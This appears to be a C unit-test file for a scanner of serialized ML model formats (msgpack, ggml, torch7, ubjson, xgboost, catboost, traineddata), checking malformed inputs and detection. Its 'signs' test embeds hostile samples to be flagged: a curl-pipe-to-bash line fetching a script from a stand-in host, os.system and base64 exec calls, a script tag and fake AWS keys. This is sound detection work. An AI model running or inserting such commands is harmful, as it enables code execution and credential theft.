/* Readers of plain values: msgpack, ggml, traineddata, torch7, ubjson, xgboost-binary, catboost. Most rows take a clean seed and
 * damage one thing in it: what is found there is replaced, something is put behind the end, or the end is cut off. */
#include "support/cm.h"

#include "format/formats.h"
#include "support/events.h"
#include "support/seedrows.h"
#include "wire/msgpack.h"

#include <stdio.h>
#include <stdlib.h>

#define B(lit) GH_SPAN(lit)
#define NONE ((struct gh_span){ 0 })

static const struct gh_seed_row rows[] = {
	/* ---- msgpack ---- */
	{ &gh_fmt_msgpack, "weights", "clean_flax.msgpack", NONE, NONE, 0, GH_OK, true,
	  "tensor \"params/Dense_0/kernel\" F32 [2, 3]", "anomaly" },
	{ &gh_fmt_msgpack, "values", "clean_plain.msgpack", NONE, NONE, 0, GH_OK, true, "text metadata \"name\" \"a\"",
	  "anomaly" },
	{ &gh_fmt_msgpack, "extensions", "clean_ext.msgpack", NONE, NONE, 0, GH_OK, true, "tensor \"s\" I32 []",
	  "anomaly" },
	{ &gh_fmt_msgpack, "an array of objects", "objects.msgpack", NONE, NONE, 0, GH_OK, true, "anomaly GH-MP-0010",
	  NULL },
	{ &gh_fmt_msgpack, "msgpack-numpy's objects", NULL, NONE,
	  B("\x81\xa1x\x83\xa2nd\xc3\xa4kind\xa1O\xa4"
	    "data\xc4\x10"
	    "0123456789abcdef"),
	  0, GH_OK, true, "anomaly GH-MP-0010", NULL },
	{ &gh_fmt_msgpack, "a pickle", "pickle.msgpack", NONE, NONE, 0, GH_OK, true, "member \"w\" nested", NULL },
	{ &gh_fmt_msgpack, "0xc1", NULL, NONE, B("\x81\xa1k\xc1"), 0, GH_E_MALFORMED, true, "anomaly GH-MP-0001",
	  NULL },
	{ &gh_fmt_msgpack, "a count of 2^32", NULL, NONE, B("\x81\xa1k\xdd\xff\xff\xff\xff"), 0, GH_E_MALFORMED, true,
	  "anomaly GH-MP-0002", NULL },
	{ &gh_fmt_msgpack, "a text of 2^32", NULL, NONE, B("\x81\xa1k\xdb\xff\xff\xff\xffxx"), 0, GH_E_MALFORMED, false,
	  "anomaly GH-MP-0002", NULL },
	{ &gh_fmt_msgpack, "cut", NULL, NONE, B("\x82\xa1k\x01\xa1l\xcb\x01\x02"), 0, GH_E_MALFORMED, false,
	  "anomaly GH-MP-0003", NULL },
	{ &gh_fmt_msgpack, "a map as a key", NULL, NONE, B("\x82\xa1k\x01\x81\x01\x02\x03"), 0, GH_OK, true,
	  "anomaly GH-MP-0005", NULL },
	{ &gh_fmt_msgpack, "a key that is no text", NULL, NONE, B("\x81\xa2k\xa5\x01"), 0, GH_OK, true,
	  "anomaly GH-MP-0005", NULL },
	{ &gh_fmt_msgpack, "a key twice", NULL, NONE, B("\x82\xa1k\x01\xa1k\x02"), 0, GH_OK, true, "anomaly GH-MP-0006",
	  NULL },
	{ &gh_fmt_msgpack, "a number twice as a key", NULL, NONE, B("\x82\x05\x01\xcc\x05\x02"), 0, GH_OK, true,
	  "anomaly GH-MP-0006", NULL },
	{ &gh_fmt_msgpack, "a key in two maps", NULL, NONE, B("\x82\xa1k\x81\xa1k\x01\xa1l\x81\xa1k\x01"), 0, GH_OK,
	  true, NULL, "anomaly" },
	{ &gh_fmt_msgpack, "a key that acts", NULL, NONE, B("\x81\xaa__reduce__\x01"), 0, GH_OK, true,
	  "anomaly GH-MP-0007", NULL },
	{ &gh_fmt_msgpack, "an extension", NULL, NONE, B("\x81\xa1k\xd4\x2ax"), 0, GH_OK, true, "anomaly GH-MP-0008",
	  NULL },
	{ &gh_fmt_msgpack, "an array without a shape", NULL, NONE, B("\x81\xa1k\xd5\x01\x91\x01"), 0, GH_OK, true,
	  "anomaly GH-MP-0009", NULL },
	{ &gh_fmt_msgpack, "an array of another size", "clean_flax.msgpack", B("\x92\x02\x03"), B("\x92\x02\x7f"), 0,
	  GH_OK, true, "anomaly GH-MP-0011", NULL },
	{ &gh_fmt_msgpack, "an unknown type", "clean_flax.msgpack",
	  B("\xa7"
	    "float32"),
	  B("\xa7"
	    "float99"),
	  0, GH_OK, true, "anomaly GH-MP-0009", NULL },
	/* ---- ggml ---- */
	{ &gh_fmt_ggml, "ggjt 3", "clean_ggjt3.bin", NONE, NONE, 0, GH_OK, true, "tensor \"tok\" Q4_0 [32, 4]",
	  "GH-GGML-0006" },
	{ &gh_fmt_ggml, "its age", "clean_ggjt3.bin", NONE, NONE, 0, GH_OK, true, "anomaly GH-GGML-0009", NULL },
	{ &gh_fmt_ggml, "ggjt 2: longer blocks", "clean_ggjt2.bin", NONE, NONE, 0, GH_OK, true,
	  "tensor \"norm\" F32 [8]", NULL },
	{ &gh_fmt_ggml, "gpt-2", "clean_gpt2.bin", NONE, NONE, 0, GH_OK, true, "gpt-2", "GH-GGML-0006" },
	{ &gh_fmt_ggml, "whisper", "clean_whisper.bin", NONE, NONE, 0, GH_OK, true, "whisper.cpp", NULL },
	{ &gh_fmt_ggml, "LoRA", "clean_lora.bin", NONE, NONE, 0, GH_OK, true, "LoRA", NULL },
	{ &gh_fmt_ggml, "version 77", "version.bin", NONE, NONE, 0, GH_E_UNREAD, false, "anomaly GH-GGML-0001", NULL },
	{ &gh_fmt_ggml, "words without end", "clean_ggjt3.bin", B("\2\0\0\0t3"), B("\xff\xff\xff\xfft3"), 0,
	  GH_E_MALFORMED, false, "anomaly GH-GGML-0003", NULL },
	{ &gh_fmt_ggml, "words without end, of one program or another", "clean_gpt2.bin", B("\2\0\0\0t3"),
	  B("\xff\xff\xff\xfft3"), 0, GH_E_UNREAD, false, "anomaly GH-GGML-0002", NULL },
	{ &gh_fmt_ggml, "five dimensions", "clean_ggjt3.bin", B("\1\0\0\0\4\0\0\0"), B("\5\0\0\0\4\0\0\0"), 0,
	  GH_E_MALFORMED, false, "anomaly GH-GGML-0004", NULL },
	{ &gh_fmt_ggml, "an impossible type", "clean_ggjt3.bin", B("\1\0\0\0\4\0\0\0\0\0\0\0"),
	  B("\1\0\0\0\4\0\0\0\x63\0\0\0"), 0, GH_E_MALFORMED, false, "anomaly GH-GGML-0005", NULL },
	{ &gh_fmt_ggml, "cut", "clean_ggjt3.bin", NONE, NONE, 5, GH_E_MALFORMED, false, "anomaly GH-GGML-0006", NULL },
	{ &gh_fmt_ggml, "a name that is no text", "clean_ggjt3.bin", B("norm"), B("no\nm"), 0, GH_E_MALFORMED, false,
	  "anomaly GH-GGML-0007", NULL },
	{ &gh_fmt_ggml, "a name twice", "clean_gpt2.bin", NONE, B("\1\0\0\0\4\0\0\0\0\0\0\0\1\0\0\0norm\0\0\0\0"), 0,
	  GH_OK, true, "anomaly GH-GGML-0008", NULL },
	{ &gh_fmt_ggml, "padding that is not zero", "clean_lora.bin", B("tok\0"), B("tok\1"), 0, GH_OK, true,
	  "anomaly GH-GGML-0010", NULL },
	/* ---- traineddata ---- */
	{ &gh_fmt_traineddata, "components", "clean.traineddata", NONE, NONE, 0, GH_OK, true, "member \"lstm\" file",
	  "anomaly" },
	{ &gh_fmt_traineddata, "its version", "clean.traineddata", NONE, NONE, 0, GH_OK, true,
	  "text metadata \"version\" \"4.0.0\"", "anomaly" },
	{ &gh_fmt_traineddata, "big-endian", "clean_big_endian.traineddata", NONE, NONE, 0, GH_OK, true, NULL,
	  "anomaly" },
	{ &gh_fmt_traineddata, "a configuration", "clean_config.traineddata", NONE, NONE, 0, GH_OK, true,
	  "text metadata \"config\"", "anomaly" },
	{ &gh_fmt_traineddata, "no components", NULL, NONE, B("\0\0\0\0"), 0, GH_E_MALFORMED, false,
	  "anomaly GH-TESS-0001", NULL },
	{ &gh_fmt_traineddata, "a component far away", "order.traineddata", NONE, NONE, 0, GH_E_MALFORMED, false,
	  "anomaly GH-TESS-0002", NULL },
	{ &gh_fmt_traineddata, "a set of characters that is no text", "clean.traineddata", B("2\nNULL"), B("2\n\1ULL"),
	  0, GH_OK, true, "anomaly GH-TESS-0003", NULL },
	{ &gh_fmt_traineddata, "a word graph of another size", "clean.traineddata", B("\x2a\0\x64"), B("\x2b\0\x64"), 0,
	  GH_OK, true, "anomaly GH-TESS-0004", NULL },
	{ &gh_fmt_traineddata, "a recoder of another size", "clean.traineddata", B("\1\2\0\0\0\5"), B("\1\3\0\0\0\5"),
	  0, GH_OK, true, "anomaly GH-TESS-0005", NULL },
	{ &gh_fmt_traineddata, "writes a file", "writes.traineddata", NONE, NONE, 0, GH_OK, true,
	  "anomaly GH-TESS-0006", NULL },
	{ &gh_fmt_traineddata, "writes a file: which", "writes.traineddata", NONE, NONE, 0, GH_OK, true,
	  "reference path \"/tmp/out\"", NULL },
	{ &gh_fmt_traineddata, "reads a file", "writes.traineddata", B("debug_file /tmp/out"), B("user_words_file ../"),
	  0, GH_OK, true, "anomaly GH-TESS-0007", NULL },
	/* ---- torch7 ---- */
	{ &gh_fmt_torch7, "a layer", "clean_net.t7", NONE, NONE, 0, GH_OK, true, "tensor \"weight\" F32 [4]",
	  "anomaly" },
	{ &gh_fmt_torch7, "its class", "clean_net.t7", NONE, NONE, 0, GH_OK, true, "call operation .nn.Linear", NULL },
	{ &gh_fmt_torch7, "text", "clean_text.t7", NONE, NONE, 0, GH_OK, true, "call operation .nn.Linear", "anomaly" },
	{ &gh_fmt_torch7, "a table", "clean_table.t7", NONE, NONE, 0, GH_OK, true, NULL, "anomaly" },
	{ &gh_fmt_torch7, "type 99", "clean_table.t7", B("\2\0\0\0\5\0\0\0epoch"), B("\x63\0\0\0\5\0\0\0epoch"), 0,
	  GH_E_MALFORMED, false, "anomaly GH-T7-0001", NULL },
	{ &gh_fmt_torch7, "a text longer than the file", "clean_table.t7", B("\5\0\0\0epoch"),
	  B("\xff\xff\xff\x7f"
	    "epoch"),
	  0, GH_E_MALFORMED, false, "anomaly GH-T7-0002", NULL },
	{ &gh_fmt_torch7, "cut within a number", "clean_table.t7", NONE, NONE, 3, GH_E_MALFORMED, false,
	  "anomaly GH-T7-0003", NULL },
	{ &gh_fmt_torch7, "an index of 2^30", "clean_table.t7", B("\3\0\0\0\1\0\0\0"), B("\3\0\0\0\1\0\0\x40"), 0,
	  GH_E_LIMIT, false, "anomaly GH-T7-0004", NULL },
	{ &gh_fmt_torch7, "a function", "function.t7", NONE, NONE, 0, GH_OK, true, "anomaly GH-T7-0005", NULL },
	{ &gh_fmt_torch7, "a function: its code", "function.t7", NONE, NONE, 0, GH_OK, true, "code lua-bytecode \"f\"",
	  NULL },
	{ &gh_fmt_torch7, "a class of somebody", "class.t7", NONE, NONE, 0, GH_OK, true, "anomaly GH-T7-0006", NULL },
	{ &gh_fmt_torch7, "beyond its storage", "outside.t7", NONE, NONE, 0, GH_OK, true, "anomaly GH-T7-0007", NULL },
	{ &gh_fmt_torch7, "text that is no number", "clean_text.t7", B("0 1 2 3"), B("0 x 2 3"), 0, GH_E_MALFORMED,
	  false, "anomaly GH-T7-0008", NULL },
	{ &gh_fmt_torch7, "index 0", "clean_table.t7", B("\3\0\0\0\1\0\0\0"), B("\3\0\0\0\0\0\0\0"), 0, GH_OK, true,
	  "anomaly GH-T7-0009", NULL },
	/* ---- ubjson ---- */
	{ &gh_fmt_ubjson, "a booster", "clean_booster.ubj", NONE, NONE, 0, GH_OK, true, "tensor \"w\" F32 [20]",
	  "anomaly" },
	{ &gh_fmt_ubjson, "its objective", "clean_booster.ubj", NONE, NONE, 0, GH_OK, true,
	  "text metadata \"name\" \"binary:logistic\"", "anomaly" },
	{ &gh_fmt_ubjson, "containers", "clean_open.ubj", NONE, NONE, 0, GH_OK, true, NULL, "anomaly" },
	{ &gh_fmt_ubjson, "typed object", "clean_number.ubj", NONE, NONE, 0, GH_OK, true, NULL, "anomaly" },
	{ &gh_fmt_ubjson, "an unknown marker", "clean_open.ubj", B("efZ"), B("ef!"), 0, GH_E_MALFORMED, false,
	  "anomaly GH-UBJ-0001", NULL },
	{ &gh_fmt_ubjson, "a count beyond the file", "count.ubj", NONE, NONE, 0, GH_E_MALFORMED, false,
	  "anomaly GH-UBJ-0002", NULL },
	{ &gh_fmt_ubjson, "many of nothing", NULL, NONE,
	  B("{i\x02"
	    "ab[$Z#L\x7f\0\0\0\0\0\0\0}"),
	  0, GH_E_MALFORMED, false, "anomaly GH-UBJ-0002", NULL },
	{ &gh_fmt_ubjson, "some of nothing", NULL, NONE,
	  B("{i\x02"
	    "ab[$Z#i\x7f}"),
	  0, GH_OK, true, NULL, "anomaly" },
	{ &gh_fmt_ubjson, "cut", "clean_open.ubj", NONE, NONE, 1, GH_E_MALFORMED, true, "anomaly GH-UBJ-0003", NULL },
	{ &gh_fmt_ubjson, "a key twice", "twice.ubj", NONE, NONE, 0, GH_OK, true, "anomaly GH-UBJ-0005", NULL },
	{ &gh_fmt_ubjson, "a key that acts", NULL, NONE, B("{i\x0a__reduce__Z}"), 0, GH_OK, true, "anomaly GH-UBJ-0006",
	  NULL },
	{ &gh_fmt_ubjson, "a number in words", "clean_number.ubj", B("3.14"), B("four"), 0, GH_OK, true,
	  "anomaly GH-UBJ-0007", NULL },
	/* ---- xgboost-binary ---- */
	{ &gh_fmt_xgboost, "a booster", "clean.model", NONE, NONE, 0, GH_OK, true,
	  "text metadata \"objective\" \"binary:logistic\"", "anomaly" },
	{ &gh_fmt_xgboost, "without the magic", "clean_plain.model", NONE, NONE, 0, GH_OK, true, NULL, "anomaly" },
	{ &gh_fmt_xgboost, "attributes", "clean_attributes.model", NONE, NONE, 0, GH_OK, true,
	  "text metadata \"metric\" \"auc\"", "anomaly" },
	{ &gh_fmt_xgboost, "cut", "cut.model", NONE, NONE, 0, GH_E_MALFORMED, false, "anomaly GH-XGB-0001", NULL },
	{ &gh_fmt_xgboost, "a child outside the tree", "wild.model", NONE, NONE, 0, GH_OK, true, "anomaly GH-XGB-0002",
	  NULL },
	{ &gh_fmt_xgboost, "another booster", "clean.model", B("gbtree"), B("gbmist"), 0, GH_E_UNREAD, false,
	  "anomaly GH-XGB-0003", NULL },
	{ &gh_fmt_xgboost, "a parameter behind", "clean.model", NONE,
	  B("\3\0\0\0\0\0\0\0"
	    "0.7"),
	  0, GH_OK, true, "anomaly GH-XGB-0004", NULL },
	/* ---- catboost ---- */
	{ &gh_fmt_catboost, "trees", "clean.cbm", NONE, NONE, 0, GH_OK, true, "tensor \"LeafValues\" F64 [2]",
	  "anomaly" },
	{ &gh_fmt_catboost, "its parameters", "clean.cbm", NONE, NONE, 0, GH_OK, true,
	  "text metadata \"params\" \"{}\"", "anomaly" },
	{ &gh_fmt_catboost, "categories", "clean_categories.cbm", NONE, NONE, 0, GH_OK, true,
	  "tensor \"CTRBlob\" U8 [16]", "anomaly" },
	{ &gh_fmt_catboost, "no categories", "clean_none.cbm", NONE, NONE, 0, GH_OK, true, NULL, "anomaly" },
	{ &gh_fmt_catboost, "cut", "cut.cbm", NONE, NONE, 0, GH_E_MALFORMED, false, "anomaly GH-CBM-0001", NULL },
	{ &gh_fmt_catboost, "an offset out of range", "clean.cbm", B("\x0c\0\0\0\x48\0\0\0"),
	  B("\x0c\0\0\0\x48\0\0\x7f"), 0, GH_OK, false, "anomaly GH-CBM-0002", NULL },
	{ &gh_fmt_catboost, "a field of a later version", "field.cbm", NONE, NONE, 0, GH_OK, true,
	  "anomaly GH-CBM-0003", NULL },
	{ &gh_fmt_catboost, "a part that is not read", "texts.cbm", NONE, NONE, 0, GH_E_UNREAD, false,
	  "anomaly GH-CBM-0004", NULL },
	{ &gh_fmt_catboost, "another version", "version.cbm", NONE, NONE, 0, GH_OK, true, "anomaly GH-CBM-0005", NULL },
	{ &gh_fmt_catboost, "trees without leaves", "trees.cbm", NONE, NONE, 0, GH_OK, true, "anomaly GH-CBM-0006",
	  NULL },
};

static void every_rule(void **st)
{
	(void)st;
	assert_int_equal(gh_seed_rows_wrong(rows, GH_ROWS(rows)), 0);
}

/* ---- signs of active content, in a text of each format --------------------------------------------------------------- */

static void le(struct gh_buf *b, uint64_t v, unsigned n)
{
	for (unsigned i = 0; i < n; i++)
		gh_buf_ch(b, (char)(v >> 8 * i & 0xff));
}
static void big(struct gh_buf *b, uint64_t v, unsigned n)
{
	while (n-- > 0)
		gh_buf_ch(b, (char)(v >> 8 * n & 0xff));
}

static void in_msgpack(struct gh_buf *b, const char *s)
{
	gh_buf_put(b, "\x81\xa1k\xdb", 4), big(b, strlen(s), 4), gh_buf_str(b, s);
}
static void in_ubjson(struct gh_buf *b, const char *s)
{
	gh_buf_put(b, "{i\x02ghSL", 7), big(b, strlen(s), 8), gh_buf_str(b, s), gh_buf_ch(b, '}');
}
static void in_torch7(struct gh_buf *b, const char *s)
{
	le(b, 3, 4), le(b, 1, 4), le(b, 1, 4), le(b, 2, 4), le(b, 1, 4), gh_buf_ch(b, 'k'), le(b, 2, 4),
		le(b, strlen(s), 4);
	gh_buf_str(b, s);
}
static void in_traineddata(struct gh_buf *b, const char *s)
{
	le(b, 24, 4);
	for (int i = 0; i < 23; i++)
		le(b, UINT64_MAX, 8);
	le(b, 196, 8), gh_buf_str(b, s);
}
static void in_xgboost(struct gh_buf *b, const char *s)
{
	for (int i = 0; i < 34; i++)
		le(b, i == 3, 4); /* has attributes */
	le(b, 7, 8), gh_buf_str(b, "reg:sqe"), le(b, 6, 8), gh_buf_str(b, "gbtree");
	for (int i = 0; i < 40; i++)
		le(b, 0, 4);
	le(b, 1, 8), le(b, 1, 8), gh_buf_ch(b, 'k'), le(b, strlen(s), 8), gh_buf_str(b, s);
}
static void in_ggml(struct gh_buf *b, const char *s)
{
	le(b, 0x67676a74, 4), le(b, 3, 4), le(b, 1, 4);
	for (int i = 0; i < 6; i++)
		le(b, 2, 4);
	le(b, 5000, 4), gh_buf_str(b, s);
	for (size_t i = strlen(s); i < 5000; i++)
		gh_buf_ch(b, ' ');
	le(b, 0, 4), le(b, 1, 4), le(b, 1, 4), le(b, 0, 4), le(b, 1, 4), gh_buf_ch(b, 'w');
	while (b->n % 32 != 0)
		gh_buf_ch(b, 0);
	le(b, 0, 4);
}

/* A FlatBuffer of a model without trees and of one pair. */
static void in_catboost(struct gh_buf *b, const char *s)
{
	static const uint8_t head[] = { 16, 0,	0, 0, 12, 0, 12, 0, 4, 0, 0,  0, 8, 0,	0,  0, 12, 0, 0,
					0,  36, 0, 0, 0,  4, 0,	 0, 0, 1, 0,  0, 0, 12, 0,  0, 0,  8, 0,
					12, 0,	4, 0, 8,  0, 8,	 0, 0, 0, 32, 0, 0, 0,	36, 0, 0,  0 };
	size_t n = strlen(s), pad = 4 - n % 4;
	gh_buf_str(b, "CBM1"), le(b, 92 + n + pad, 4), gh_buf_put(b, head, sizeof head);
	le(b, 18, 4), gh_buf_str(b, "FlabuffersModel_v1"), le(b, 0, 2), le(b, 1, 4), gh_buf_ch(b, 'k'), le(b, 0, 3);
	le(b, n, 4), gh_buf_str(b, s), le(b, 0, (unsigned)pad);
}

static const struct {
	const struct gh_fmt *fmt;
	void (*make)(struct gh_buf *, const char *);
	const char *id[6];
} carriers[] = {
	{ &gh_fmt_msgpack,
	  in_msgpack,
	  { "GH-MP-0201", "GH-MP-0202", "GH-MP-0203", "GH-MP-0204", "GH-MP-0205", "GH-MP-0206" } },
	{ &gh_fmt_ubjson,
	  in_ubjson,
	  { "GH-UBJ-0201", "GH-UBJ-0202", "GH-UBJ-0203", "GH-UBJ-0204", "GH-UBJ-0205", "GH-UBJ-0206" } },
	{ &gh_fmt_torch7,
	  in_torch7,
	  { "GH-T7-0201", "GH-T7-0202", "GH-T7-0203", "GH-T7-0204", "GH-T7-0205", "GH-T7-0206" } },
	{ &gh_fmt_traineddata,
	  in_traineddata,
	  { "GH-TESS-0201", "GH-TESS-0202", "GH-TESS-0203", "GH-TESS-0204", "GH-TESS-0205", "GH-TESS-0206" } },
	{ &gh_fmt_xgboost,
	  in_xgboost,
	  { "GH-XGB-0201", "GH-XGB-0202", "GH-XGB-0203", "GH-XGB-0204", "GH-XGB-0205", "GH-XGB-0206" } },
	{ &gh_fmt_catboost,
	  in_catboost,
	  { "GH-CBM-0201", "GH-CBM-0202", "GH-CBM-0203", "GH-CBM-0204", "GH-CBM-0205", "GH-CBM-0206" } },
	{ &gh_fmt_ggml,
	  in_ggml,
	  { "GH-GGML-0201", "GH-GGML-0202", "GH-GGML-0203", "GH-GGML-0204", "GH-GGML-0205", "GH-GGML-0206" } },
};

static void signs(void **st)
{
	(void)st;
	static const char *const texts[] = {
		"import os; os.system(\"id\")",
		"curl http://a.example/x.sh | bash",
		"<script>alert(1)</script>",
		"exec(__import__(\"base64\").b64decode(\"aW1wb3J0IG9z\"))",
		"http://a.example/payload.exe",
		"AKIAIOSFODNN7EXAMPLX aws_secret_access_key=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
	};
	for (size_t i = 0; i < GH_ROWS(carriers); i++)
		for (size_t k = 0; k < GH_ROWS(texts); k++) {
			gh_auto_buf b = gh_buf(1 << 16);
			struct gh_events ev;
			carriers[i].make(&b, texts[k]);
			gh_events_walk(&ev, carriers[i].fmt, gh_buf_view(&b), "x", true);
			if (ev.rc != GH_OK || !ev.gapless || !gh_events_has(&ev, carriers[i].id[k]))
				fail_msg("%s: rc %d (%s)\n%s", carriers[i].id[k], ev.rc, ev.why, gh_buf_cstr(&ev.log));
			gh_events_free(&ev);
		}
}

/* ---- probes ----------------------------------------------------------------------------------------------------------- */

/* Each knows its own, and none takes another one's, text, noise or zeros for its own. */
static void probes(void **st)
{
	(void)st;
	static const struct gh_fmt *const all[] = { &gh_fmt_msgpack, &gh_fmt_ggml,   &gh_fmt_traineddata,
						    &gh_fmt_torch7,  &gh_fmt_ubjson, &gh_fmt_xgboost,
						    &gh_fmt_rdata,   &gh_fmt_rdb };
	static const struct {
		const struct gh_fmt *whose;
		const char *path;
	} t[] = {
		{ &gh_fmt_msgpack, "msgpack/clean_flax.msgpack" },
		{ &gh_fmt_msgpack, "msgpack/clean_plain.msgpack" },
		{ &gh_fmt_ggml, "ggml/clean_gpt2.bin" },
		{ &gh_fmt_traineddata, "traineddata/clean.traineddata" },
		{ &gh_fmt_traineddata, "traineddata/clean_big_endian.traineddata" },
		{ &gh_fmt_torch7, "torch7/clean_net.t7" },
		{ &gh_fmt_torch7, "torch7/clean_text.t7" },
		{ &gh_fmt_torch7, "torch7/clean_table.t7" },
		{ &gh_fmt_ubjson, "ubjson/clean_booster.ubj" },
		{ &gh_fmt_ubjson, "ubjson/clean_open.ubj" },
		{ &gh_fmt_xgboost, "xgboost-binary/clean.model" },
		{ &gh_fmt_xgboost, "xgboost-binary/clean_plain.model" },
		{ &gh_fmt_catboost, "catboost/clean.cbm" },
		{ &gh_fmt_rdata, "r-data/clean_list.rds" },
		{ &gh_fmt_rdb, "r-lazyload/clean_zlib.rdb" },
		{ NULL, "../../../README.md" },
		{ NULL, "../../../src/format/fmt_msgpack.c" },
		{ NULL, "pickle/call0.pkl" },
		{ NULL, "json/config.json" },
	};
	for (size_t i = 0; i < GH_ROWS(t); i++) {
		char path[200];
		(void)snprintf(path, sizeof path, "tests/fuzz/seeds/%s", t[i].path);
		struct gh_span in = gh_test_file(path);
		if (in.p == NULL) {
			assert_null(t[i].whose);
			continue;
		}
		struct gh_probe p = { in, in, in.n };
		for (size_t k = 0; k < GH_ROWS(all); k++)
			if ((all[k]->probe(&p) == GH_STRONG) != (all[k] == t[i].whose))
				fail_msg("%s as %s: %d", t[i].path, all[k]->name, all[k]->probe(&p));
		free((void *)(uintptr_t)in.p);
	}
	/* Noise: a generator with a fixed start, so that a failure can be repeated. */
	uint8_t noise[512];
	uint64_t x = 88172645463325252u;
	unsigned taken = 0;
	for (unsigned round = 0; round < 200000; round++) {
		for (size_t i = 0; i < sizeof noise; i += 8) {
			x ^= x << 13, x ^= x >> 7, x ^= x << 17;
			memcpy(noise + i, &x, 8);
			if (round > 20 && i >= 16)
				break; /* the rest may stay: only the start decides */
		}
		struct gh_probe p = { { noise, sizeof noise }, { noise, sizeof noise }, 1 << 20 };
		for (size_t k = 0; k < GH_ROWS(all); k++)
			if (all[k]->probe(&p) != GH_NO && taken++ >= 2)
				fail_msg("%s takes noise for its own: %02x %02x %02x %02x", all[k]->name, noise[0],
					 noise[1], noise[2], noise[3]);
	}
}

/* Deep nesting is refused, not followed. */
static void deep(void **st)
{
	(void)st;
	static const struct {
		const struct gh_fmt *fmt;
		const char *unit;
		size_t n;
		const char *id;
	} t[] = { { &gh_fmt_msgpack, "\x91", 1, "GH-MP-0004" }, { &gh_fmt_ubjson, "[", 1, "GH-UBJ-0004" } };
	for (size_t i = 0; i < GH_ROWS(t); i++) {
		gh_auto_buf b = gh_buf(1 << 16);
		struct gh_events ev;
		for (int k = 0; k < 5000; k++)
			gh_buf_put(&b, t[i].unit, t[i].n);
		gh_events_walk(&ev, t[i].fmt, gh_buf_view(&b), "x", false);
		assert_int_equal(ev.rc, GH_E_LIMIT);
		assert_true(gh_events_has(&ev, t[i].id));
		gh_events_free(&ev);
	}
}

static void msgpack_heads(void **st)
{
	(void)st;
	static const struct {
		struct gh_span in;
		enum gh_mp_kind kind;
		unsigned head;
		uint32_t size;
		int64_t value;
	} t[] = {
		{ B(""), GH_MP_SHORT, 0, 0, 0 },
		{ B("\x7f"), GH_MP_INT, 1, 0, 127 },
		{ B("\xe0"), GH_MP_INT, 1, 0, -32 },
		{ B("\xcc\xff"), GH_MP_INT, 2, 0, 255 },
		{ B("\xd0\xff"), GH_MP_INT, 2, 0, -1 },
		{ B("\xd1\x80\x00"), GH_MP_INT, 3, 0, -32768 },
		{ B("\xcf\xff\xff\xff\xff\xff\xff\xff\xff"), GH_MP_UINT, 9, 0, -1 },
		{ B("\xd3\xff\xff\xff\xff\xff\xff\xff"), GH_MP_SHORT, 0, 0, 0 },
		{ B("\xc1"), GH_MP_BAD, 1, 0, 0 },
		{ B("\xc3"), GH_MP_BOOL, 1, 0, 1 },
		{ B("\xa3"), GH_MP_STR, 1, 3, 0 },
		{ B("\xda\x01\x02"), GH_MP_STR, 3, 258, 0 },
		{ B("\xc6\x00\x01\x00\x00"), GH_MP_BIN, 5, 65536, 0 },
		{ B("\xd8\xfe"), GH_MP_EXT, 2, 16, 0 },
		{ B("\xc8\x00\x05\x01"), GH_MP_EXT, 4, 5, 0 },
		{ B("\x9f"), GH_MP_ARRAY, 1, 15, 0 },
		{ B("\xdf\x00\x00\x00\x02"), GH_MP_MAP, 5, 2, 0 },
	};
	for (size_t i = 0; i < GH_ROWS(t); i++) {
		struct gh_mp m = gh_mp_head(t[i].in);
		if (m.kind != t[i].kind || m.head != t[i].head || m.size != t[i].size || m.value != t[i].value)
			fail_msg("row %zu: kind %d head %u size %u value %lld", i, m.kind, m.head, m.size,
				 (long long)m.value);
	}
}

int main(void)
{
	const struct CMUnitTest t[] = { cmocka_unit_test(every_rule), cmocka_unit_test(signs), cmocka_unit_test(probes),
					cmocka_unit_test(deep), cmocka_unit_test(msgpack_heads) };
	return cmocka_run_group_tests_name("values", t, NULL, NULL);
}
